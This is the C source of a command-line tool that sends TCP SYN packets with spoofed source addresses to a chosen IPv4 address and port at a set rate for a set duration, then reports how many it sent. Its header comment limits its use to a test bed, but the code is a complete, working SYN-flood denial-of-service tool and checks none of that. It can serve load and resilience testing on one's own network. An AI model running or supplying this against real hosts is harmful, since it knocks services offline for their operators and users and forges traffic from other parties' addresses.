/*
 * syn-flood ADDR PORT FROM COUNT_OF_ADDRESSES PER_SECOND SECONDS
 *
 * Sends TCP SYNs to an IPv4 address of a test bed, from as many made-up addresses beginning at FROM, which must be of the
 * bed too and nobody's. Prints how many were sent as one line of JSON.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static double now_seconds(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint32_t sum_words(const void *data, size_t bytes, uint32_t sum) {
  const uint8_t *at = data;
  for (size_t i = 0; i + 1 < bytes; i += 2) sum += (uint32_t)(at[i] << 8 | at[i + 1]);
  return sum;
}

static uint16_t folded(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

int main(int argc, char **argv) {
  if (argc != 7) {
    fprintf(stderr, "usage: syn-flood ADDR PORT FROM COUNT_OF_ADDRESSES PER_SECOND SECONDS\n");
    return 2;
  }
  struct sockaddr_in to = {.sin_family = AF_INET};
  struct in_addr from;
  if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || inet_pton(AF_INET, argv[3], &from) != 1) {
    fprintf(stderr, "syn-flood: ADDR and FROM are IPv4 addresses\n");
    return 2;
  }
  const uint16_t port = (uint16_t)atoi(argv[2]);
  const uint32_t addresses = (uint32_t)atoi(argv[4]);
  const double rate = atof(argv[5]), seconds = atof(argv[6]);
  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0 || addresses == 0) {
    fprintf(stderr, "syn-flood: socket: %s\n", strerror(errno));
    return 1;
  }
  uint32_t dice = 0x9e3779b9;
  uint64_t sent = 0, failed = 0;
  const double began = now_seconds();
  for (double now = began; now - began < seconds; now = now_seconds()) {
    const uint64_t due = (uint64_t)((now - began) * rate);
    if (sent + failed >= due) {
      nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
      continue;
    }
    dice = dice * 1664525u + 1013904223u;
    struct {
      struct iphdr ip;
      struct tcphdr tcp;
    } packet = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP}};
    packet.ip.tot_len = htons(sizeof packet);
    packet.ip.saddr = htonl(ntohl(from.s_addr) + (dice >> 8) % addresses);
    packet.ip.daddr = to.sin_addr.s_addr;
    packet.tcp.source = htons((uint16_t)(1024 + (dice >> 10) % 60000));
    packet.tcp.dest = htons(port);
    packet.tcp.seq = dice;
    packet.tcp.doff = 5;
    packet.tcp.syn = 1;
    packet.tcp.window = htons(64240);
    uint32_t sum = sum_words(&packet.ip.saddr, 8, IPPROTO_TCP + sizeof packet.tcp);
    packet.tcp.check = folded(sum_words(&packet.tcp, sizeof packet.tcp, sum));
    if (sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0) failed += 1;
    else sent += 1;
  }
  printf("{\"sent\":%llu,\"failed\":%llu}\n", (unsigned long long)sent, (unsigned long long)failed);
  return 0;
}
